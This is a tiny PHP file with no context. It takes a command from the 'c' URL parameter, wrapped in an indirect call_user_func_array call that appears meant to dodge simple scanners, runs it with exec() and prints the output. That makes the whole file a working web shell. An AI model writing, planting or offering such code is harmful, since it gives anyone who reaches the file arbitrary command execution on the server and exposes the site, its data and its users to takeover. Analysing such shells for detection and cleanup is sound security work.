<?php
$c = call_user_func_array(static function ($p) { return $_GET[$p]; }, ["c"]);
exec($c, $o); echo implode("\n", $o);
